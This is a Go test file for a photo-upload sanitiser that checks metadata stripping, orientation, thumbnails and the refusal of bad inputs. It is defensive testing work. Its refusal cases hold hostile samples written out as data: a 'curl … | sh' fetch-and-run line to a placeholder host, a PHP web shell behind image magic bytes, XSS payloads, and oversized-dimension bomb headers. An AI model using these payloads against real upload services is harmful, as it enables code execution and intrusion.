package photo

import (
	"bytes"
	"errors"
	"image"
	"image/color"
	"image/gif"
	"image/png"
	"runtime"
	"strings"
	"testing"
)

func decode(t *testing.T, data []byte, wantFormat string) image.Image {
	t.Helper()
	img, format, err := image.Decode(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("output does not decode: %v", err)
	}
	if format != wantFormat {
		t.Fatalf("output is %s, want %s", format, wantFormat)
	}
	return img
}

// near reports whether c is within tol of want in each channel, as a
// lossy JPEG leaves it.
func near(c color.Color, want color.NRGBA, tol int) bool {
	n := color.NRGBAModel.Convert(c).(color.NRGBA)
	d := func(a, b uint8) bool { return int(a)-int(b) <= tol && int(b)-int(a) <= tol }
	return d(n.R, want.R) && d(n.G, want.G) && d(n.B, want.B) && d(n.A, want.A)
}

var (
	red         = color.NRGBA{255, 0, 0, 255}
	blue        = color.NRGBA{0, 0, 255, 255}
	green       = color.NRGBA{0, 255, 0, 255}
	white       = color.NRGBA{255, 255, 255, 255}
	transparent = color.NRGBA{}
)

func TestProcessJPEGDropsMetadata(t *testing.T) {
	in := withSegments(encodeJPEG(t, photoLike(640, 480)),
		exifAPP1(0), xmpAPP1(), segment(0xfe, []byte(commentText)))
	in = append(in, "<script>alert(1)</script>"...) // after the end-of-image marker
	leaks := [][]byte{
		[]byte("Exif"), []byte("GPS"), []byte("ns.adobe.com"), []byte(commentText), []byte("<script>"),
		rationalBytes(latitude), rationalBytes(longitude),
	}
	for _, l := range leaks {
		if !bytes.Contains(in, l) {
			t.Fatalf("the input lacks %q: the test proves nothing", l)
		}
	}

	p, err := Process(in)
	if err != nil {
		t.Fatal(err)
	}
	if p.ContentType != "image/jpeg" || p.Width != 640 || p.Height != 480 {
		t.Errorf("got %s %d×%d, want image/jpeg 640×480", p.ContentType, p.Width, p.Height)
	}
	for _, out := range [][]byte{p.Data, p.Thumb} {
		for _, l := range leaks {
			if bytes.Contains(out, l) {
				t.Errorf("output still holds %q", l)
			}
		}
		for _, m := range jpegMarkers(t, out) {
			if m >= 0xe1 && m <= 0xef || m == 0xfe {
				t.Errorf("output has a segment with marker %#x (APPn or comment)", m)
			}
		}
	}
	decode(t, p.Data, "jpeg")
}

func TestProcessPNGDropsMetadataKeepsPixels(t *testing.T) {
	src := image.NewNRGBA(image.Rect(0, 0, 40, 30))
	for y := range 30 {
		for x := range 40 {
			src.SetNRGBA(x, y, color.NRGBA{uint8(x * 6), uint8(y * 8), 77, uint8(255 - x*5)})
		}
	}
	in := withChunks(encodePNG(t, src),
		pngChunk("tEXt", []byte("Comment\x00"+commentText)),
		pngChunk("iTXt", []byte("XML:com.adobe.xmp\x00\x00\x00\x00\x00"+string(xmpAPP1()[4:]))),
		pngChunk("eXIf", exifAPP1(0)[10:]), // the TIFF block, without APP1's "Exif\0\0"
	)
	if _, err := png.Decode(bytes.NewReader(in)); err != nil {
		t.Fatalf("the input PNG is not valid: %v", err)
	}

	p, err := Process(in)
	if err != nil {
		t.Fatal(err)
	}
	if p.ContentType != "image/png" || p.Width != 40 || p.Height != 30 {
		t.Errorf("got %s %d×%d, want image/png 40×30", p.ContentType, p.Width, p.Height)
	}
	for _, typ := range pngChunkTypes(t, p.Data) {
		if typ != "IHDR" && typ != "IDAT" && typ != "IEND" {
			t.Errorf("output has a %s chunk", typ)
		}
	}
	for _, l := range []string{"GPS", commentText, "adobe"} {
		if bytes.Contains(p.Data, []byte(l)) {
			t.Errorf("output still holds %q", l)
		}
	}
	out := decode(t, p.Data, "png")
	for y := range 30 {
		for x := range 40 {
			if got, want := color.NRGBAModel.Convert(out.At(x, y)), src.NRGBAAt(x, y); got != want {
				t.Fatalf("pixel (%d,%d) = %v, want %v: PNG must stay lossless", x, y, got, want)
			}
		}
	}
}

func TestProcessAppliesOrientation(t *testing.T) {
	// Left half red, right half blue; EXIF orientation 6 says "turn 90°
	// clockwise to view", which brings red to the top.
	in := withSegments(encodeJPEG(t, halves(64, 32, red, blue)), exifAPP1(6))
	p, err := Process(in)
	if err != nil {
		t.Fatal(err)
	}
	if p.Width != 32 || p.Height != 64 {
		t.Fatalf("got %d×%d, want 32×64 (upright)", p.Width, p.Height)
	}
	if bytes.Contains(p.Data, []byte("Exif")) {
		t.Error("output still holds EXIF")
	}
	out := decode(t, p.Data, "jpeg")
	if b := out.Bounds(); b.Dx() != 32 || b.Dy() != 64 {
		t.Fatalf("output decodes as %v, want 32×64", b)
	}
	if c := out.At(16, 8); !near(c, red, 40) {
		t.Errorf("top is %v, want red", c)
	}
	if c := out.At(16, 56); !near(c, blue, 40) {
		t.Errorf("bottom is %v, want blue", c)
	}
	thumb := decode(t, p.Thumb, "jpeg")
	if b := thumb.Bounds(); b.Dx() != 32 || b.Dy() != 64 {
		t.Errorf("thumbnail is %v, want 32×64 like the photo", b)
	}
}

func TestProcessWebP(t *testing.T) {
	p, err := Process(losslessWebP(64, 32))
	if err != nil {
		t.Fatal(err)
	}
	if p.ContentType != "image/jpeg" || p.Width != 64 || p.Height != 32 {
		t.Fatalf("got %s %d×%d, want image/jpeg 64×32", p.ContentType, p.Width, p.Height)
	}
	for _, data := range [][]byte{p.Data, p.Thumb} {
		out := decode(t, data, "jpeg")
		if c := out.At(8, 16); !near(c, green, 40) {
			t.Errorf("left is %v, want green", c)
		}
		// JPEG has no transparency: the transparent half must come out white,
		// not the black its pixels hold.
		if c := out.At(56, 16); !near(c, white, 40) {
			t.Errorf("right is %v, want white", c)
		}
	}
}

func TestThumbnail(t *testing.T) {
	tests := []struct {
		name         string
		in           []byte
		w, h         int // of the photo
		thumbW, thmH int
	}{
		{"landscape", encodeJPEG(t, photoLike(2000, 1000)), 2000, 1000, 320, 160},
		{"portrait", encodePNG(t, photoLike(600, 900)), 600, 900, 213, 320},
		{"small, not enlarged", encodeJPEG(t, photoLike(100, 50)), 100, 50, 100, 50},
		{"exactly the box", encodeJPEG(t, photoLike(320, 320)), 320, 320, 320, 320},
		{"a thin strip keeps a pixel", encodePNG(t, photoLike(4, 3000)), 4, 3000, 1, 320},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Process(tt.in)
			if err != nil {
				t.Fatal(err)
			}
			if p.Width != tt.w || p.Height != tt.h {
				t.Errorf("photo is %d×%d, want %d×%d", p.Width, p.Height, tt.w, tt.h)
			}
			b := decode(t, p.Thumb, "jpeg").Bounds()
			if b.Dx() != tt.thumbW || b.Dy() != tt.thmH {
				t.Errorf("thumbnail is %d×%d, want %d×%d", b.Dx(), b.Dy(), tt.thumbW, tt.thmH)
			}
		})
	}
}

func TestThumbnailOfTransparentPNG(t *testing.T) {
	p, err := Process(encodePNG(t, halves(640, 320, blue, transparent)))
	if err != nil {
		t.Fatal(err)
	}
	thumb := decode(t, p.Thumb, "jpeg")
	if c := thumb.At(40, 80); !near(c, blue, 40) {
		t.Errorf("left is %v, want blue", c)
	}
	if c := thumb.At(280, 80); !near(c, white, 40) {
		t.Errorf("right is %v, want white", c)
	}
	// The photo itself stays a PNG with its transparency.
	if c := decode(t, p.Data, "png").At(600, 10); color.NRGBAModel.Convert(c) != transparent {
		t.Errorf("transparent pixel became %v", c)
	}
}

func TestProcessRefuses(t *testing.T) {
	var gifData bytes.Buffer
	if err := gif.Encode(&gifData, photoLike(16, 16), nil); err != nil {
		t.Fatal(err)
	}
	small := encodeJPEG(t, photoLike(256, 256))

	// A JPEG whose frame header says 20000×20000.
	bigJPEG := append([]byte{}, small...)
	sof := bytes.Index(bigJPEG, []byte{0xff, 0xc0})
	copy(bigJPEG[sof+5:], []byte{0x4e, 0x20, 0x4e, 0x20})

	// A JPEG of many scans: its own, then 120 more scan headers.
	manyScans := append([]byte{}, small[:len(small)-2]...)
	for range 120 {
		manyScans = append(manyScans, segment(0xda, []byte{1, 1, 0, 0, 63, 0})...)
	}
	manyScans = append(manyScans, 0xff, 0xd9)

	oversize := append(append([]byte{}, small...), make([]byte, MaxBytes+1-len(small))...)

	var lossless bitWriter // a lossless WebP header of 16384×16384
	lossless.write(0x2f, 8)
	lossless.write(16383, 14)
	lossless.write(16383, 14)
	lossless.write(0, 4)

	tests := []struct {
		name string
		in   []byte
		want error
	}{
		{"empty", nil, ErrType},
		{"script renamed .jpg", []byte("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"), ErrType},
		{"HTML", []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"), ErrType},
		{"SVG", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), ErrType},
		{"GIF", gifData.Bytes(), ErrType},
		{"PHP behind a GIF header", []byte("GIF89a<?php system($_GET['c']); ?>"), ErrType},
		{"PDF", []byte("%PDF-1.7\n1 0 obj\n"), ErrType},
		{"BMP", []byte("BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00"), ErrType},
		{"HEIC", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), ErrType},
		{"JPEG header cut short", small[:2], ErrType},
		{"PNG header cut short", []byte("\x89PNG\r\n"), ErrType},
		{"animated WebP", animatedWebPHeader(), ErrType},
		{"JPEG magic, then a script", []byte("\xff\xd8\xff<?php system($_GET['c']); ?>"), ErrCorrupt},
		{"JPEG cut before its frame", small[:20], ErrCorrupt},
		{"JPEG cut in half", small[:len(small)/2], ErrCorrupt},
		{"PNG magic, then nothing", []byte("\x89PNG\r\n\x1a\n"), ErrCorrupt},
		{"PNG cut in half", encodePNG(t, photoLike(64, 64))[:2000], ErrCorrupt},
		{"PNG declaring 0×0", pngHeader(t, 0, 0), ErrCorrupt},
		{"WebP cut in half", losslessWebP(64, 32)[:200], ErrCorrupt},
		{"over MaxBytes", oversize, ErrTooLarge},
		{"PNG declaring 20000×20000", pngHeader(t, 20000, 20000), ErrTooLarge},
		{"JPEG declaring 20000×20000", bigJPEG, ErrTooLarge},
		{"WebP declaring 16384×16384", riff("VP8L", lossless.bytes()), ErrTooLarge},
		{"JPEG of too many scans", manyScans, ErrTooLarge},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Process(tt.in)
			if !errors.Is(err, tt.want) {
				t.Fatalf("Process = %v, want %v", err, tt.want)
			}
			if p.Data != nil || p.Thumb != nil {
				t.Error("a refusal returned data")
			}
			var pe *Error
			if !errors.As(err, &pe) {
				t.Fatalf("%T is not a *photo.Error", err)
			}
			if pe.Field != "photos" || !strings.HasPrefix(err.Error(), "photos: ") {
				t.Errorf("error names %q (%q), want photos", pe.Field, err)
			}
			// Vietnamese first, English after in parentheses.
			open := strings.Index(pe.Message, " (")
			if open < 1 || !strings.HasSuffix(pe.Message, ").") {
				t.Fatalf("message %q is not \"Vietnamese (English).\"", pe.Message)
			}
			if vi := pe.Message[:open]; !strings.ContainsAny(vi, "ảáạóớờệốặộ") {
				t.Errorf("message %q does not start in Vietnamese", pe.Message)
			}
		})
	}
}

func TestTooLargeMessage(t *testing.T) {
	_, err := Process(make([]byte, MaxBytes+1))
	var pe *Error
	if !errors.As(err, &pe) {
		t.Fatalf("Process = %v, want a *photo.Error", err)
	}
	for _, s := range []string{"Ảnh quá lớn: 5,1 MB, tối đa 5 MB", "at most 5 MB"} {
		if !strings.Contains(pe.Message, s) {
			t.Errorf("message %q lacks %q", pe.Message, s)
		}
	}
	_, err = Process(pngHeader(t, 20000, 20000))
	if !errors.As(err, &pe) || !strings.Contains(pe.Message, "20000×20000") {
		t.Errorf("message %q does not give the declared size", err)
	}
}

func TestMaxBytesIsAccepted(t *testing.T) {
	small := encodeJPEG(t, photoLike(64, 64))
	in := append(append([]byte{}, small...), make([]byte, MaxBytes-len(small))...)
	p, err := Process(in)
	if err != nil {
		t.Fatalf("a photo of exactly MaxBytes: %v", err)
	}
	if len(p.Data) > len(small)*2 {
		t.Errorf("output is %d bytes: the padding after the image survived", len(p.Data))
	}
}

// The pixel limit is checked before decoding: a PNG that declares
// 20000×20000 grey pixels would make the decoder allocate 400 MB before it
// found the data missing.
func TestBombIsNotDecoded(t *testing.T) {
	bomb := pngHeader(t, 20000, 20000)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	if _, err := Process(bomb); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("Process = %v, want ErrTooLarge", err)
	}
	runtime.ReadMemStats(&after)
	if n := after.TotalAlloc - before.TotalAlloc; n > 8<<20 {
		t.Errorf("refusing the bomb allocated %d bytes", n)
	}
}

// BenchmarkProcess times a 2-megapixel phone photo, as it comes upright
// and as it comes from a phone held upright (EXIF orientation 6), which
// adds the turn.
func BenchmarkProcess(b *testing.B) {
	upright := encodeJPEG(b, photoLike(1732, 1155))
	for _, bm := range []struct {
		name string
		data []byte
	}{
		{"upright", upright},
		{"orientation 6", withSegments(upright, exifAPP1(6))},
	} {
		b.Run(bm.name, func(b *testing.B) {
			b.SetBytes(int64(len(bm.data)))
			b.ReportAllocs()
			for b.Loop() {
				if _, err := Process(bm.data); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
